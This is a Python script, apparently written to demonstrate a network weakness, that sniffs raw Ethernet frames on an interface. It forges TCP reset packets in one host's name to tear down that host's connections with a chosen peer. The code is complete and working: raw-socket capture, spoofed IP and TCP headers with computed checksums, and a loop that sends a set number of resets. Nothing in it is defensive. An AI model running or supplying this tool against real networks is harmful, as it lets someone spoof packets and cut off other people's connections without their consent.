"""Forges resets of TCP connections: whoever can send from a network of the job can end its connections.

    forge.py INTERFACE OWN PEER COUNT

It listens on an interface of the host OWN, and answers `COUNT` packets of the connections from PEER by resets in OWN's name.
"""

import socket
import struct
import sys

IPV4, TCP, RESET, EVERY = b"\x08\x00", 6, 4, 3


def checksum(words: bytes) -> int:
    total = sum(struct.unpack(f"!{len(words) // 2}H", words))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def reset(frame: bytes) -> bytes:
    """The frame that resets the connection to which a frame belongs, at the end that has sent it."""
    at = 14 + (frame[14] & 15) * 4
    from_port, to_port, _, acknowledged = struct.unpack("!HHII", frame[at:at + 12])
    source, target = frame[30:34], frame[26:30]
    tcp = struct.pack("!HHIIBBHHH", to_port, from_port, acknowledged, 0, 5 << 4, RESET, 0, 0, 0)
    pseudo = source + target + struct.pack("!BBH", 0, TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, TCP, 0, source, target)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return frame[6:12] + frame[:6] + IPV4 + ip + tcp


def main() -> None:
    interface, own, peer, count = sys.argv[1], *map(socket.inet_aton, sys.argv[2:4]), int(sys.argv[4])
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(EVERY))
    wire.bind((interface, 0))
    wire.settimeout(10)
    while count > 0:
        frame = wire.recv(1 << 16)
        if frame[12:14] == IPV4 and frame[23] == TCP and frame[26:30] == peer and frame[30:34] == own:
            wire.send(reset(frame))
            count -= 1


if __name__ == "__main__":
    main()
